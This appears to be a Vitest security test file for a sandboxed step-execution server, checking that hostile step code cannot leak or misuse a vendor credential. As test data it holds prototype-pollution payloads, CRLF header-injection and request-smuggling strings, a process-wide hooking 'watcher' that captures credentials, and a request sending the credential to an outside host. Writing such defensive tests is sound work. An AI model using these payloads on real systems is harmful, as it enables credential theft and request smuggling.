/** Code that lies to the server: across the pipe, in what it returns, throws and exports, and with handles that are not its own. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { bound, House } from './house/house.ts'
import { FORGER } from './probes/forger.ts'

let house: House
beforeAll(async () => void (house = await House.open()))
afterAll(() => house?.close())

/** What a step returns or exports to change what objects are, in the server or in the steps after it. */
const POLLUTERS: Readonly<Record<string, string>> = {
  '`__proto__` in what is returned': `return JSON.parse('{"__proto__":{"polluted":1},"a":{"__proto__":{"polluted":1}}}')`,
  '`__proto__` as text on the pipe': `send(frame(RESULT, 1, '{"returned":{"__proto__":{"polluted":1},"\\\\u005f_proto__":{"polluted":1}}}')); return never`,
  '`constructor` and `prototype`': `return { constructor: { prototype: { polluted: 1 } }, prototype: { polluted: 1 } }`,
  'an export that is called `__proto__`': `$.export('__proto__', { polluted: 1 })`,
  'exports that are called as methods are': `for (const name of ['constructor', 'toString', 'toJSON', 'then', 'hasOwnProperty', 'valueOf']) $.export(name, { polluted: 1 })`,
  'a `toJSON` of its own': `return { toJSON: () => JSON.parse('{"__proto__":{"polluted":1}}') }`,
  'a `toJSON` for all': `Object.prototype.toJSON = () => ({ polluted: 1 }); return {}`,
  'getters that throw': `return { get a() { throw new Error('polluted') } }`,
  'a proxy': `return new Proxy({}, { ownKeys: () => ['__proto__'], getOwnPropertyDescriptor: () => ({ value: { polluted: 1 }, enumerable: true, configurable: true }), get: () => ({ polluted: 1 }) })`,
  'prototypes of its own process': `Object.prototype.polluted = 1; Array.prototype.polluted = 1; Map.prototype.get = () => 1; return 'done'`,
  'JSON of its own': `JSON.stringify = () => '{"returned":{"polluted":1}}'; JSON.parse = () => ({ polluted: 1 }); return 'done'`,
  'an answer with hostile headers': `await $.respond({ status: 200, headers: { __proto__: { polluted: 1 }, 'x-a\\r\\nx-polluted': '1', 'x-b': 'b\\r\\nx-polluted: 1' }, body: 'x' })`
}

/** Steps of one version share a process: one that breaks it breaks its own workflow. */
const SHORT = { step: { timeout: '2s' } }

const CLEAN = `export default ({ steps }) => {
  if ('polluted' in {} || 'polluted' in [] || steps.polluted !== undefined || steps.hostile?.polluted !== undefined) return 'polluted'
  return 'clean'
}`

test.for(Object.entries(POLLUTERS))('changes no prototype by %s', async ([, run]) => {
  const code = `${FORGER} export default async ({ steps, $ }) => { ${run} }`
  const {
    status,
    body,
    run: shown
  } = await house.attack({ unbound: true, code, ...SHORT, after: [{ name: 'after', code: CLEAN, timeout: '2s' }] })
  const how = status === 200 ? String(body) : String((body as { code?: string }).code)
  expect(how).toMatch(
    /^(clean|x|null|code_failed|bad_response|reserved_export|sandbox_(misbehaved|timed_out)|(step|run)_timed_out)$/
  )
  expect('polluted' in shown).toBe(false)
  await house.judge()
})

test('which would be seen: the step after looks at a polluted process', async () => {
  const code = CLEAN.replace('export default', 'Object.prototype.polluted = 1; export default')
  expect((await house.attack({ unbound: true, code })).body).toBe('polluted')
})

const named = (thrown: string) => `export default () => { throw ${thrown} }`
const HOSTILE_ERRORS: Readonly<Record<string, string>> = {
  'a name that is a name of the server’s': `Object.assign(new Error('x'), { name: 'Fault', code: 'storage_full', status: 200, hint: 'x' })`,
  getters: `{ get message() { throw new Error('within') }, get name() { for (const a of []); throw 1 }, get stack() { return 1n } }`,
  'a cause that is its own': `(() => { const error = new Error('x'); error.cause = error; return error })()`,
  'a long chain of causes': `Array.from({ length: 10_000 }).reduce((cause) => new Error('x', { cause }), undefined)`,
  'a stack of lies': `Object.assign(new Error('x'), { stack: 'Error: x\\n at /etc/passwd:1:1\\n at file:///../../key:1:1\\n at step.mjs:999999999:999999999\\n at step.mjs:-1:NaN' })`,
  'an answer of a vendor that is none': `Object.assign(new Error('x'), { response: { status: '__proto__', headers: { 'retry-after': '1e999' } }, retryable: true })`,
  'a symbol': `Symbol('x')`,
  nothing: `undefined`,
  'a proxy': `new Proxy({}, { get() { throw new Proxy({}, { get() { throw 1 } }) } })`,
  'control characters': `new Error('\\u0000\\u001b[2J\\r\\nSet-Cookie: a=b\\ud800')`
}

test.for(Object.entries(HOSTILE_ERRORS))('fails its own step by throwing %s', async ([, thrown]) => {
  const outcome = await house.attack({ unbound: true, code: named(thrown) })
  expect([outcome.status, (outcome.body as { code: string }).code]).toEqual([500, 'code_failed'])
  await house.judge()
})

/** Written by hand: what only the server, or another call, may say. */
const FRAMES: Readonly<Record<string, string>> = {
  'the result of another call': `for (let id = 0; id < 50; id++) if (id !== 1) send(frame(RESULT, id, '{"returned":"forged"}')); return 'own'`,
  'a failure of another call': `for (let id = 2; id < 50; id++) send(frame(FAILURE, id, '{"name":"x","message":"forged"}')); return 'own'`,
  'answers to nobody': `for (let id = 0; id < 50; id++) send(frame(DATA, id + 5000, 'forged')); return 'own'`,
  'questions that there are not': `for (const name of ['__proto__', 'constructor', 'toString', 'reveal', 'store', 'keyring']) send(frame(ASK, 70000 + name.length, JSON.stringify({ operation: name, input: { prop: '__proto__', operation: 'call', input: {} } }))); return 'own'`
}

test.for(Object.entries(FRAMES))('forges %s, and nobody hears it', async ([, run]) => {
  const { status, body } = await house.attack({
    unbound: true,
    code: `${FORGER} export default async () => { ${run} }`
  })
  expect([status, body]).toEqual([200, 'own'])
  await house.judge()
})

test('that forges its own result hurts itself: the same frame, with its own id, is heard', async () => {
  const code = `${FORGER} export default async () => { send(frame(RESULT, 1, '{"returned":"forged"}')); return never }`
  expect((await house.attack({ unbound: true, code })).body).toBe('forged')
  await house.judge()
})

/** Sends a handle that the text of `handle` makes, in the header that is the app's. */
const sending = (handle: string) =>
  bound(`
  const handle = ${handle}
  globalThis.kept ??= key
  const { status } = await fetch('http://' + body.app, { headers: { authorization: 'Bearer ' + handle } })
  return { status, handle }`)

test('has its own handle revealed, and neither one that it kept, nor made up', async () => {
  const kept = await house.deploy({ code: sending('globalThis.kept ?? key') })
  const event = { key: house.credential, app: house.app }
  expect((await house.call(kept, event)).body).toMatchObject({ status: 200 })
  const later = await house.call(kept, event)
  expect(later.body).toMatchObject({ status: 403 })
  expect(house.vendor.got.length).toBe(1)
  const forged = [
    `'bhdl.parcels.api_key.AAAAAAAAAAAAAAAAAAAAAA'`,
    `key.slice(0, -1) + (key.endsWith('A') ? 'B' : 'A')`,
    `'bhdl.parcels.api_key.'`
  ]
  for (const handle of forged) {
    const { body } = await house.attack({ code: sending(handle) }, event)
    expect(body).toHaveProperty('status')
    expect(
      house.vendor.got.filter(({ headers }) => headers.authorization === `Bearer ${house.credential}`).length
    ).toBe(1)
  }
  await house.judge()
})

test('is not given what handle-shaped text in an event names', async () => {
  const first = await house.attack({ code: bound('return key') })
  const handle = String(first.body)
  expect(handle).toMatch(/^bhdl\./)
  const code = bound(
    `const answer = await fetch('http://' + body.app, { headers: { authorization: 'Bearer ' + body.handle } }); return answer.status`
  )
  const { body } = await house.attack({ code }, { app: house.app, handle })
  expect(body).toBe(200)
  expect(house.vendor.got.at(-1)?.headers.authorization).not.toContain(house.credential)
  await house.judge()
})

/** Looks at all that comes into its process, from the first run on, and says it in the second. */
const WATCHER = bound(
  `globalThis.seen ??= watched()
  await fetch('http://' + body.app, { headers: { authorization: 'Bearer ' + key } })
  await new Promise((resolve) => setTimeout(resolve, 50))
  if (body.tell !== true) return 'watching'
  const told = inspect(seen, { depth: 8, showHidden: true, maxArrayLength: 2000, maxStringLength: 2000, getters: true })
  return [seen.length, told, Buffer.concat(seen.filter(Buffer.isBuffer)).toString('latin1')].join('\\n').slice(0, 4_000_000)`,
  `import { AsyncLocalStorage, createHook, executionAsyncResource } from 'node:async_hooks'
  import diagnostics from 'node:diagnostics_channel'
  import { EventEmitter } from 'node:events'
  import { Duplex } from 'node:stream'
  import { inspect } from 'node:util'
  const watched = () => {
    const seen = []
    const keep = (...all) => void (seen.length < 20_000 && seen.push(...all))
    createHook({ init: (id, type, trigger, resource) => keep(type, resource), before: () => keep(executionAsyncResource()) }).enable()
    for (const name of ['http.client.request.start', 'http.client.response.finish', 'net.client.socket', 'undici:request:create',
      'undici:client:sendHeaders', 'undici:request:headers', 'undici:request:bodyChunkReceived', 'module.import', 'tracing:net.server.listen:asyncStart'])
      diagnostics.subscribe(name, (message) => keep(name, message))
    const wrap = (owner, name) => {
      const inner = owner[name]
      owner[name] = function (...all) { keep(...all.filter((each) => typeof each === 'string' || Buffer.isBuffer(each))); return inner.apply(this, all) }
    }
    wrap(EventEmitter.prototype, 'emit')
    wrap(Duplex.prototype, 'write')
    wrap(Duplex.prototype, 'push')
    wrap(Buffer, 'concat')
    wrap(Buffer.prototype, 'toString')
    wrap(TextDecoder.prototype, 'decode')
    wrap(JSON, 'parse')
    wrap(Promise.prototype, 'then')
    wrap(AsyncLocalStorage.prototype, 'run')
    wrap(Map.prototype, 'get')
    return seen
  }`
)

test('watches its process by every hook there is, and sees handles', async () => {
  const trigger = await house.deploy({ code: WATCHER, step: { timeout: '20s' } })
  const first = await house.call(trigger, { key: house.credential, app: house.app })
  expect(first.body).toBe('watching')
  // Another run, which does not know the credential of the first: nobody takes it out of what this one says.
  const second = await house.call(trigger, { key: 'another-credential-0123456789', app: house.app, tell: true })
  expect(second.status, JSON.stringify(second.body)).toBe(200)
  const told = String(second.body)
  expect(told).toMatch(/undici:client:sendHeaders/)
  expect(told).toMatch(/bhdl[.-]parcels[.-]api_key/)
  await house.judge()
})

test('goes on after its step has ended, and is heard no more', async () => {
  const before = house.vendor.got.length
  const code = bound(`const { app } = body
    const say = () => { console.log('still here'); return fetch('http://' + app + '/late', { headers: { authorization: 'Bearer ' + key } }).catch(() => {}) }
    globalThis.timer ??= setInterval(say, 20)
    $.export('key', key)
    return 'ended'`)
  const { body, run } = await house.attack(
    {
      code,
      after: [
        { name: 'wait', code: 'export default () => new Promise((resolve) => setTimeout(resolve, 500, "waited"))' }
      ]
    },
    { app: house.app }
  )
  expect(body).toBe('waited')
  await house.goesOn()
  const late = house.vendor.got.slice(before).filter(({ url }) => url === '/late')
  expect(late.length).toBeLessThanOrEqual(1)
  expect(run.steps.flatMap(({ logs }) => logs).filter(({ text }) => text === 'still here').length).toBeLessThanOrEqual(
    1
  )
  await house.judge()
})

/** Requests that travel as messages, as `fetch` would not write them; each names the credential. */
const REQUESTS: Readonly<Record<string, string>> = {
  'to another host by its target': `[app, { path: 'http://' + body.elsewhere + '/', headers: [bearer] }]`,
  'to another host by an authority': `[app, { path: '@' + body.elsewhere + '/', headers: [bearer] }]`,
  'to another tenant by its Host': `[app, { headers: [['host', body.tenant], bearer] }]`,
  'to another tenant by a second Host': `[app, { headers: [['host', body.app], ['Host', body.tenant], bearer] }]`,
  'to another tenant': `[tenant, { headers: [bearer] }]`,
  'to another host': `[elsewhere, { headers: [bearer] }]`,
  'with a second one in its path': `[app, { path: '/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /smuggled', headers: [bearer] }]`,
  'with a second one in its method': `[app, { method: 'GET /smuggled HTTP/1.1\\r\\n\\r\\nGET', headers: [bearer] }]`,
  'with a header in a header': `[app, { headers: [['x', 'a\\r\\nhost: ' + body.tenant], bearer] }]`,
  'with a header in a name': `[app, { headers: [['host: ' + body.tenant + '\\r\\nx', 'a'], bearer] }]`,
  'that asks for a tunnel': `[app, { method: 'CONNECT', path: body.elsewhere, headers: [bearer] }]`,
  'with lengths that differ': `[app, { method: 'POST', headers: [bearer, ['content-length', '0']], length: 4 }, 'GET /smuggled']`,
  'with chunks of its own': `[app, { method: 'POST', headers: [bearer, ['transfer-encoding', 'chunked']], length: 47 }, '0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nhost: localhost\\r\\n\\r\\n']`,
  'whose body is the credential': `[elsewhere, { method: 'POST', headers: [], length: key.length }, key]`
}

test.for(Object.entries(REQUESTS))('forges a request %s, and the credential stays at home', async ([, forged]) => {
  const code = bound(
    `const bearer = ['authorization', 'Bearer ' + key]
    const [app, tenant, elsewhere] = [body.app, body.tenant, body.elsewhere]
    const [to, request, sent] = ${forged}
    const { hostname: host, port } = new URL('http://' + to)
    send(frame(OPEN, 4000, JSON.stringify({ host, port: Number(port), tls: false, request: { method: 'GET', path: '/', ...request } })))
    if (sent !== undefined) send(Buffer.concat([frame(DATA, 4000, sent), frame(END, 4000)]))
    // What was sent before it has been dealt with before it.
    await (await fetch('http://' + app)).text()
    return 'own'`,
    FORGER
  )
  const { app, tenant, elsewhere } = house
  expect((await house.attack({ code }, { app, tenant, elsewhere })).body).toBe('own')
  expect(house.vendor.got.some(({ url }) => url === '/smuggled')).toBe(false)
  await house.judge()
})

test('which would be seen: a request that it forges as `fetch` writes them brings the credential home', async () => {
  const code = bound(
    `const { hostname: host, port } = new URL('http://' + body.app)
    const request = { method: 'GET', path: '/forged', headers: [['authorization', 'Bearer ' + key]] }
    send(frame(OPEN, 4000, JSON.stringify({ host, port: Number(port), tls: false, request })))
    await (await fetch('http://' + body.app)).text()
    return 'own'`,
    FORGER
  )
  expect((await house.attack({ code }, { app: house.app })).body).toBe('own')
  const arrived = () => house.vendor.got.find(({ url }) => url === '/forged')?.headers.authorization
  await expect.poll(arrived).toBe(`Bearer ${house.credential}`)
  await house.judge()
})
